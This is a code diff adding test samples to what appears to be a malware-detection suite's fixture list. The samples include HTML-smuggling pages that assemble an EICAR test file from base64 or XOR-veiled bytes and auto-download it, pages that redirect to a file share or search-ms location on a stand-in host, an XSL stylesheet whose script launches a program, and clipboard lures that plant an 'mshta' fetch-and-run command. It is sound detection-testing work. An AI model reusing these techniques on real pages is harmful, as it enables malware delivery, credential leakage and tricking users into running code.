@@ -28,6 +28,10 @@ pub(super) fn all() -> Vec<Standin> {
     let smuggled = |name, what, body: String| {
         Standin::new("A16", PAGES, name, what, html("", &body)).kind("html").technique("T1027.006").blocked()
     };
+    let veiled_page = |name, what, body: String| {
+        Standin::new("A16", PAGES, name, what, html("", &body)).kind("html").technique("T1027.006").suspicious().held()
+    };
+    let veiled: Vec<String> = eicar().iter().map(|byte| (byte ^ 90).to_string()).collect();
     let numbers: Vec<String> = eicar().iter().map(ToString::to_string).collect();
     let clipboard = "<p>To prove that you are human: press <b>Win + R</b>, then <b>Ctrl + V</b>, then Enter.</p><button onclick=\"navigator.clipboard.writeText('powershell -w hidden -c echo hello')\">I am not a robot</button>";
     let command = "<h1>Verification</h1><p>Press Windows key + R, paste with CTRL+V and press OK.</p><script>function copy() { const t = document.createElement('textarea'); t.value = 'mshta https://host.invalid/a'; document.body.append(t); t.select(); document.execCommand('copy'); }</script><button onclick=\"copy()\">Verify</button>";
@@ -45,6 +49,11 @@ pub(super) fn all() -> Vec<Standin> {
         document("hex.pdf", "an action under a name in hexadecimal", "<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#4aavaScript /JS <6170702e616c657274283129> >> >>").finds("pdf.runs-by-itself").held(),
         Standin::new("A13", "formats/pdf", "attached.pdf", "an embedded file", embedded).payload("a.com"),
         Standin::new("A13", PDFS, "export.pdf", "a script that opens an embedded file", in_stream).kind("pdf").held(),
+        veiled_page("offer.html", "a page that hides a file in a form and spells nothing out", format!("<body onload=\"go()\"><input type=hidden id=q value=\"{coded}\"><script>function go(){{var v=document.all.q.value;var w=window[\"at\"+\"ob\"](v);var n=w.length,u=new Uint8Array(n);while(n--)u[n]=w.charCodeAt(n);var k=window[\"Bl\"+\"ob\"];var b=new k([u]);var a=document.createElement(\"a\");a.href=window.URL[\"createObject\"+\"URL\"](b);a.download=\"a.com\";a.click()}}</script></body>")),
+        veiled_page("offer.html", "a page that makes a file of veiled numbers", format!("<script>var d=[{}];var o=new Uint8Array(d.length);for(var i=0;i<d.length;i++)o[i]=d[i]^90;var f=new File([o],\"a.zip\");location.href=URL.createObjectURL(f);</script>", veiled.join(","))),
+        Standin::new("A18", PAGES, "offer.html", "a page that goes to a file share", html("", "<meta http-equiv=\"refresh\" content=\"0;url=file://host.invalid/share/a\">")).technique("T1187").held(),
+        Standin::new("A18", PAGES, "offer.html", "a page that shows the files of another machine", html("", "<script>location.href=\"search-ms:query=offer&crumb=location:\\\\\\\\host.invalid\\\\share&displayname=Downloads\"</script>")).technique("T1187").held(),
+        Standin::new("A18", PAGES, "offer.xsl", "a style sheet with a script that starts a program", b"<?xml version=\"1.0\"?><stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\" version=\"1.0\"><ms:script language=\"JScript\"><![CDATA[new ActiveXObject(\"WScript.Shell\").Run(\"calc\");]]></ms:script></stylesheet>".to_vec()).proves("detect/scripts").finds("script.runs-program").held(),
         smuggled("atob.html", "a page that assembles a file from base64", format!("<a id=\"l\" download=\"a.com\">wait</a><script>var d = atob(\"{coded}\"); var b = new Blob([d], {{type: 'octet/stream'}}); l.href = URL.createObjectURL(b); l.click();</script>")).payload(""),
         smuggled("data.html", "a page with a data address and a download name", format!("<a href=\"data:application/octet-stream;base64,{coded}\" download=\"a.com\" id=\"l\">wait</a><script>document.getElementById('l').click()</script>")),
         smuggled("bytes.html", "a page that assembles a file from numbers", format!("<script>var b = new Uint8Array([{}]); var u = URL.createObjectURL(new Blob([b])); var l = document.createElement('a'); l.href = u; l.download = 'a.com'; l.click();</script>", numbers.join(","))),
